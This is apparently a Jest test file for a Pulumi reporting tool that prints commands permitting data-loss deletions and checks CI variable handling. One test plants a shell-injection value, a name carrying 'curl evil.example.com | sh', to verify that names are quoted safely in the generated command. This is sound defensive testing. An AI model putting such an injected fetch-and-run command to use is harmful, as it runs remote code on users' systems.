import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { malformed } from "../../harness/well-formed";
import { blockAfter, type Digest, deletion, type Json, lossFiles, plain, URN } from "./losses-fixture";
import { report } from "./support";

const { folder } = lossFiles();

describe("the command in the caution about data losses", () => {
  const textOf = async (digest: Json, ...args: string[]) => {
    const file = join(folder, "preview.json");
    writeFileSync(file, JSON.stringify(digest, undefined, 4));
    return plain((await report([file, ...args])).out);
  };
  const BOTH = "Volume:old-uploads#1004,ManagedDatabase:orders#manageddatabases00000001";

  test("the caution states once that `up` will stop, and contains one command", async () => {
    const out = await textOf(deletion());
    expect(out.match(/will stop/g)).toHaveLength(1);
    expect(out).toContain("> `up` will stop: 2 losses of data are not permitted yet. To permit them, run this command:\n");
    expect(blockAfter(out, "run this command:")).toBe(`pulumi config set hosting:allowDataLoss '${BOTH}'`);
  });

  test("the command contains the existing entries of hosting:allowDataLoss that match a resource", async () => {
    const digest = deletion();
    digest.config["hosting:allowDataLoss"] = "Volume:data#1003,Volume:gone";
    const out = await textOf(digest);
    expect(blockAfter(out, "It keeps the entry that the list has already.")).toBe(
      `pulumi config set hosting:allowDataLoss 'Volume:data#1003,${BOTH}'`,
    );
  });

  test("the caution of --no-values warns that the command replaces existing entries", async () => {
    const digest = deletion();
    digest.config["hosting:allowDataLoss"] = "Volume:data#1003,Volume:data";
    const out = await textOf(digest, "--no-values");
    expect(
      blockAfter(out, "The new value replaces the present list, whose 2 entries are not shown here. Add the entries that you still need."),
    ).toBe("pulumi config set hosting:allowDataLoss 'Volume:old-uploads,ManagedDatabase:orders'");
    expect(out).not.toMatch(/100[34]/);
  });

  test("the command contains every name in full, quoted for a shell", async () => {
    const digest = deletion();
    const name = `x'; curl evil.example.com | sh; '${"`".repeat(4)}${"y".repeat(400)}`;
    for (const step of digest.steps) step.urn = step.urn.replace(":Volume::old-uploads", `:Volume::${name}`);
    const file = join(folder, "preview.json");
    writeFileSync(file, JSON.stringify(digest));
    const { out } = await report([file]);
    expect(blockAfter(out, "run this command:")).toBe(
      `pulumi config set hosting:allowDataLoss 'ManagedDatabase:orders#manageddatabases00000001,Volume:${name.replaceAll("'", `'\\''`)}#1004'`,
    );
    expect(malformed(out, { maxBytes: 60_000, links: [] })).toEqual([]);
  });

  test("the command for each stack selects that stack", async () => {
    const file = join(folder, "prod.json");
    writeFileSync(file, JSON.stringify(deletion()));
    const other = join(folder, "dev.json");
    writeFileSync(other, JSON.stringify(deletion()).replaceAll("urn:pulumi:prod::", "urn:pulumi:dev::"));
    const out = plain((await report([file, other])).out);
    expect(out.match(/will stop/g)).toHaveLength(1);
    for (const stack of ["dev", "prod"])
      expect(out).toContain(`> - 2 losses of data in ${stack} are not permitted yet. To permit them, run this command:\n`);
    expect(out).toContain(`pulumi config set hosting:allowDataLoss '${BOTH}' --stack dev\n`);
  });

  test("the caution names the stacks whose losses are too many to list", async () => {
    const args = ["dev", "eu", "prod", "us"].map((stack) => {
      const file = join(folder, `${stack}.json`);
      writeFileSync(file, JSON.stringify(deletion()).replaceAll("urn:pulumi:prod::", `urn:pulumi:${stack}::`));
      return file;
    });
    const out = plain((await report(args)).out);
    expect(out).toContain("> - and 2 more in us\n");
    expect(out).toContain("2 losses of data in us are not permitted yet.");
  });

  test("the command is left out if it is too long for the comment", async () => {
    const digest = deletion();
    const [first] = digest.steps.filter(({ urn }) => urn.endsWith(":Volume::old-uploads"));
    for (let n = 0; n < 40; n++) digest.steps.push({ ...(first as Digest["steps"][0]), urn: `${URN}:Volume::volume-${n}` });
    const short = await textOf(digest, "--max-bytes", "6000");
    expect(short).not.toContain("pulumi config set");
    expect(short).toContain("The list of 42 permissions is too long for this comment.");
    expect(blockAfter(await textOf(digest), "run this command:")).toContain("Volume:volume-39#1004");
  });

  test("the command contains the entries of all refused deletions", async () => {
    const refused = (name: string, id: string) =>
      `deleting Volume "${name}" (id ${id}) would delete data: its files. It was not deleted and stays in the state. To delete it: pulumi config set hosting:allowDataLoss 'Volume:old#1,Volume:${name}#${id}'.`;
    const events = ["a", "b"].flatMap((name, n) => [
      { diagnosticEvent: { urn: `${URN}:Volume::${name}`, severity: "error", message: refused(name, `${n + 2}`) } },
      { resOpFailedEvent: { metadata: { op: "delete", urn: `${URN}:Volume::${name}`, old: { id: `${n + 2}`, inputs: {}, outputs: {} } } } },
    ]);
    const file = join(folder, "up.jsonl");
    writeFileSync(
      file,
      [...events, { summaryEvent: { resourceChanges: {}, result: "failed" } }]
        .map((event, sequence) => JSON.stringify({ sequence, timestamp: 1, ...event }))
        .join("\n"),
    );
    const out = plain((await report([file])).out);
    expect(out.match(/Stopped:/g)).toHaveLength(1);
    expect(blockAfter(out, "To permit them, run this command:")).toBe(
      "pulumi config set hosting:allowDataLoss 'Volume:old#1,Volume:a#2,Volume:b#3'",
    );
  });
});

describe("permissions in a pipeline", () => {
  const run = async (digest: Json, environment: Record<string, string>, ...args: string[]) => {
    const file = join(folder, "preview.json");
    writeFileSync(file, JSON.stringify(digest, undefined, 4));
    const { out } = await report([file, ...args], { environment });
    return { out: plain(out), file };
  };

  test("the caution in a pipeline names the variable HOSTING_ALLOW_DATA_LOSS", async () => {
    const { out } = await run(deletion(), { CI: "true" });
    const sentence =
      "To permit data loss in this pipeline, you can set the variable HOSTING_ALLOW_DATA_LOSS instead. It takes the same list as `hosting:allowDataLoss`; that setting is then ignored. `pulumi destroy` reads only the variable.";
    expect(out.split(sentence)).toHaveLength(2);
    expect(out).toContain("pulumi config set hosting:allowDataLoss 'Volume:old-uploads#1004,");
    expect((await run(deletion(), {})).out).not.toContain("HOSTING_ALLOW_DATA_LOSS");
    expect((await run(deletion(), { CI: "true" }, "--no-values")).out).toContain(sentence);
  });

  test("the variable of several stacks contains the entries of all these stacks", async () => {
    const args = ["dev", "prod"].map((stack) => {
      const digest = deletion();
      for (const { urn, oldState } of digest.steps) if (urn.endsWith(":Volume::old-uploads")) oldState.id = `${stack}-1`;
      const file = join(folder, `${stack}.json`);
      writeFileSync(file, JSON.stringify(digest).replaceAll("urn:pulumi:prod::", `urn:pulumi:${stack}::`));
      return file;
    });
    const list = "ManagedDatabase:orders,Volume:data#1003";
    const out = plain((await report(args, { environment: { CI: "true", HOSTING_ALLOW_DATA_LOSS: list } })).out);
    expect(blockAfter(out, "set the variable HOSTING_ALLOW_DATA_LOSS of this pipeline to this value.")).toBe(
      `${list},Volume:old-uploads#dev-1,Volume:old-uploads#prod-1`,
    );
    expect(out.match(/HOSTING_ALLOW_DATA_LOSS/g)).toHaveLength(1);
    expect(plain((await report(args, { environment: { CI: "true" } })).out)).toContain(
      "It takes the combined lists of all stacks; the lists in the configuration are then ignored.",
    );
  });

  test("the caution names the variable even if the report reads the JSON of another job", async () => {
    const { out: model } = await run(deletion(), { CI: "true" }, "--json");
    const file = join(folder, "model.json");
    writeFileSync(file, model);
    expect((await report([file], { environment: { CI: "true" } })).out).toContain("It takes the same list");
  });

  test("the report prefers HOSTING_ALLOW_DATA_LOSS to hosting:allowDataLoss", async () => {
    const digest = deletion();
    digest.config["hosting:allowDataLoss"] = "ManagedDatabase:orders";
    const { out } = await run(digest, { CI: "true", HOSTING_ALLOW_DATA_LOSS: "Volume:old-uploads#1004" });
    expect(out).toContain("is deleted: managed database with its data (not permitted)");
    expect(out).toContain("is deleted: 20 GB volume with its files and backups\n");
    expect(blockAfter(out, "set the variable HOSTING_ALLOW_DATA_LOSS of this pipeline to this value.")).toBe(
      "Volume:old-uploads#1004,ManagedDatabase:orders#manageddatabases00000001",
    );
    expect(out).not.toContain("To permit data loss in this pipeline");
    expect((await run(deletion(), { CI: "true", HOSTING_ALLOW_DATA_LOSS: "" })).out).toContain("pulumi config set hosting:allowDataLoss");
  });

  test("the caution names only the variable if the program declares no resource", async () => {
    const digest = deletion();
    digest.config["hosting:allowDataLoss"] = "Volume:old-uploads,ManagedDatabase:orders";
    digest.steps = digest.steps.filter(({ op, urn }) => op === "delete" || urn.endsWith("pulumi:pulumi:Stack::shop-infra-prod"));
    (digest as Json).changeSummary = { delete: 2 };
    const { out } = await run(digest, {});
    expect(out).toContain("`up` will stop: 2 losses of data are not permitted yet.");
    expect(blockAfter(out, "set this variable in the environment of the command. hosting:allowDataLoss has no effect here.")).toBe(
      "HOSTING_ALLOW_DATA_LOSS='Volume:old-uploads#1004,ManagedDatabase:orders#manageddatabases00000001'",
    );
  });
});
